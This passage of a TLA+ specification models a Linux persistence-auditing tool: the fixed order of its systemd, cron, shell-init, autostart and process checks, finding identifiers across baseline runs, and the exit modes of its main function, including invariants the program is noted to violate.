                 /\ \A s \in sevs : SeverityIndex(s) <= SeverityIndex(f.severity)
            ELSE f.check_id = "cron.artifacts" /\ f.severity = "info"

\* A run has emitted a finding whose flags have three different severities, the
\* greatest of them not the first, and a cron finding of a readable artifact
\* without flags.
C11_Witness ==
    /\ \E i \in 1..Len(findings) :
          /\ {"info", "medium", "high"} \subseteq FlagSeverities(findings[i])
          /\ findings[i].severity = "high"
    /\ \E i \in 1..Len(findings) :
          /\ findings[i].title = "Review cron artifact: /etc/crontab"
          /\ FlagSeverities(findings[i]) = {}

----------------------------------------------------------------------------
(* Claims about the order of the checks *)

\* The names the --checks argument holds, whatever their order, repetition,
\* case and surrounding blanks; the empty pieces dropped.
NamedChecks ==
    {StripLower(args.checks[i]) : i \in 1..Len(args.checks)} \ {""}

\* The checks the command line asks for, in the fixed order.
ExpectedChecks ==
    SelectSeq(CheckOrder,
              LAMBDA name : NamedChecks = {} \/ "all" \in NamedChecks \/ name \in NamedChecks)

\* The checks whose `if` lies before a position of _run_checks and main.
ChecksBefore(p) ==
    IF \E i \in 1..Len(CheckOrder) : CheckOrder[i] = p
    THEN {CheckOrder[i] : i \in 1..((CHOOSE i \in 1..Len(CheckOrder) : CheckOrder[i] = p) - 1)}
    ELSE {CheckOrder[i] : i \in 1..Len(CheckOrder)}

\* The names of the checks that were run, in the order they were run.
RanNames == [i \in 1..Len(ran) |-> ran[i].check]

\* What the checks that returned have returned, one list after the other.
RECURSIVE Returned(_)
Returned(rs) ==
    IF rs = <<>> THEN <<>>
    ELSE Head(rs).returned \o Returned(Tail(rs))

\* C12: at every point of a run that has not raised, the checks run so far are
\* the selected checks that come before that point, each once and in the order
\* systemd, cron, shell_init, xdg_autostart, runtime_process, whatever the
\* order and repetition of the names in --checks; an empty selection or one
\* with "all" selects all five; the findings are what those checks returned,
\* one list after the other.
C12_FixedOrder ==
    pc \notin {"main", "raised"} =>
        /\ RanNames = SelectSeq(ExpectedChecks, LAMBDA name : name \in ChecksBefore(pc))
        /\ findings = Returned(ran)

\* _run_checks has returned after running cron and then runtime_process, both
\* with findings, for a --checks that names runtime_process first.
C12_Witness ==
    /\ pc = "checked"
    /\ args.checks = <<"runtime_process", " Cron">>
    /\ RanNames = <<"cron", "runtime_process">>
    /\ ran[1].returned # <<>>
    /\ ran[2].returned # <<>>
    /\ findings = ran[1].returned \o ran[2].returned

----------------------------------------------------------------------------
(* Claims about identifiers across and within runs *)

\* The executables the hosts run.
Executables == {"/usr/sbin/cron", "/tmp/x", "/home/u/.local/bin/agent", "/dev/shm/.k"}

\* A serialized finding is a runtime_process finding about the executable exe.
IsProcessEntry(e, exe) ==
    /\ e.t = "dict"
    /\ {"check_id", "evidence"} \subseteq DOMAIN e.v
    /\ e.v.check_id.t = "str"
    /\ e.v.check_id.v = "runtime.process"
    /\ e.v.evidence.t = "list"
    /\ \E k \in 1..Len(e.v.evidence.v) :
          LET ev == e.v.evidence.v[k]
          IN  /\ ev.t = "dict"
              /\ {"key", "value"} \subseteq DOMAIN ev.v
              /\ ev.v.key.t = "str"
              /\ ev.v.key.v = "exe"
              /\ ev.v.value.t = "str"
              /\ ev.v.value.v = exe

\* C13: when the baseline and the current run both hold a runtime_process
\* finding about the same executable, the comparison reports that process
\* neither as added nor as removed, whatever its PIDs were.  The program
\* violates it: the finding has no "path" or "FragmentPath" evidence, so its
\* identifier is made from the title, which holds the PID.
C13_PidChangeIsNoChange ==
    pc = "compared" =>
        \A exe \in Executables :
            (/\ \E id \in DOMAIN old.findings.v : IsProcessEntry(old.findings.v[id], exe)
             /\ \E i \in 1..Len(findings) : IsProcessEntry(to_dict(findings[i]), exe))
            => /\ \A k \in 1..Len(diff.added) : ~IsProcessEntry(diff.added[k], exe)
               /\ \A k \in 1..Len(diff.removed) : ~IsProcessEntry(diff.removed[k], exe)

\* C14: within one run no two distinct findings returned by the checks share a
\* stable identifier, so make_baseline keeps one entry per finding.  The program
\* violates it: a unit and its alias are listed under two names and report the
\* same FragmentPath, which is the anchor of both identifiers.
C14_OneEntryPerFinding ==
    pc \in {"checked", "saved", "compared", "rendered"} =>
        /\ \A i, k \in 1..Len(findings) :
              findings[i] # findings[k] => _stable_id(findings[i]) # _stable_id(findings[k])
        /\ Cardinality(DOMAIN make_baseline(findings, PyStr("0.1.0")).findings.v)
              = Cardinality({findings[i] : i \in 1..Len(findings)})

----------------------------------------------------------------------------
(* Claims about main's terminal modes *)

\* The positions at which main has returned.
Completed == {"saved", "compared", "rendered"}

\* C15, as stated: every invocation of main that has ended has performed one
\* terminal mode and returned exit code 0.  It does not hold: an invocation
\* also ends by an exception from a check, from reading or loading the
\* baseline file, or from writing it, and then returns no exit code.
C15_EveryInvocationExitsZero ==
    pc \in Completed \cup {"raised"} =>
        /\ pc \in Completed
        /\ exit_code = 0
        /\ Len(printed) = 1

\* C15, amended: main prints nothing and returns nothing before the selected
\* checks have run; an invocation that completes has run them all, performed
\* exactly one terminal mode and returned exit code 0: save (the baseline of
\* the findings is written, only the confirmation line is printed), compare
\* (the baseline is loaded, only the diff is printed) or render (only the
\* findings are printed); and when --baseline-save is supplied, with or
\* without --baseline-compare, no baseline is ever read or diffed.
C15_OneModeThenExitZero ==
    /\ pc \notin Completed =>
          /\ exit_code = Nil
          /\ printed = <<>>
    /\ pc \in Completed =>
          /\ exit_code = 0
          /\ raised = "none"
          /\ RanNames = ExpectedChecks
          /\ Len(printed) = 1
    /\ pc = "saved" =>
          /\ Truthy(args.baseline_save)
          /\ base = make_baseline(findings, PyStr("0.1.0"))
          /\ text = to_json(base)
          /\ printed = <<Line("Baseline written to: " \o args.baseline_save.v)>>
    /\ pc = "compared" =>
          /\ ~Truthy(args.baseline_save)
          /\ Truthy(args.baseline_compare)
          /\ base = Nil
          /\ old = from_json(text)
          /\ diff = diff_baseline(old, findings)
          /\ printed = <<Json(json_dumps(DiffDict(diff)))>>
    /\ pc = "rendered" =>
          /\ ~Truthy(args.baseline_save)
          /\ ~Truthy(args.baseline_compare)
          /\ base = Nil
          /\ text = Nil
          /\ printed[1].kind = (IF args.format = "json" THEN "json" ELSE "text")
    /\ (Truthy(args.baseline_save) \/ ~Truthy(args.baseline_compare)) =>
          /\ old = Nil
          /\ diff = Nil
          /\ pc # "compared"

\* Both flags were supplied and the invocation completed: the baseline of a
\* run with findings was saved and the compare baseline was not touched.
C15_Witness ==
    /\ pc = "saved"
    /\ exit_code = 0
    /\ Truthy(args.baseline_save)
    /\ Truthy(args.baseline_compare)
    /\ findings # <<>>
    /\ Len(ran) >= 2
    /\ old = Nil
    /\ diff = Nil

============================================================================
